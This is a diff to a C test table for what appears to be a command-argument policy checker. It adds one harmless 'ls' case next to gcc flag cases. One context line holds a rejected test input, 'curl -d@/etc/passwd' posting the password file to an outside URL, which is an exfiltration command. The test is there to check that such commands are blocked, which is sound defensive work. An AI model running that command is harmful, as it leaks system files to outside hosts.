@@ -113,6 +113,7 @@ static const struct pcase cases[] = {
 	NO("glued_at_file", A("curl", "-d@/etc/passwd", "https://example.com"), OUT, 1),
 	OK("glued_I_src", A("gcc", "-Isrc", "src/main.c")),
 	OK("glued_o_out", A("gcc", "-oout/prog", "src/main.c")),
+	OK("short_flag_alone", A("ls", "-l", "-x", "src")),
 	OK("glued_O2", A("gcc", "-O2", "-Wall", "-std=c11", "src/main.c")),
 
 	/* ':' lists, every member */
